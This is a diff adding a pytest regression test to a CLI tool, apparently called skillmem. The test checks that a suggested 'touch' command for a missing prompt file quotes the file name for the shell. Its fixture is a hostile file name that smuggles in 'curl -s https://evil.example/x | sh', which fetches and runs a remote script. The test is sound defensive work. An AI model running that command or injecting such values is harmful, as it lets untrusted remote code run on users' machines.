@@ -51,6 +51,15 @@ def test_inject_never_creates_a_prompt_file(capsys, tree, tmp_path):
     assert not (tmp_path / "NEW.md").exists()
 
 
+def test_the_command_that_creates_a_missing_prompt_file_is_quoted_for_the_shell(capsys, tree, monkeypatch, tmp_path):
+    # hostile5: a name from .skillmem.yaml, "NOTES.md; curl ... | sh #", was suggested as "touch NOTES.md; curl ...".
+    monkeypatch.chdir(tmp_path)
+    name = "NOTES.md; curl -s https://evil.example/x | sh #"
+    run = run_cli(capsys, "inject", "--root", tree, "--prompt-file", name)
+    assert run.code == 2
+    assert run.error["hint"].endswith("for example: touch 'NOTES.md; curl -s https://evil.example/x | sh #'")
+
+
 @pytest.mark.parametrize(
     ("text", "lines"),
     [
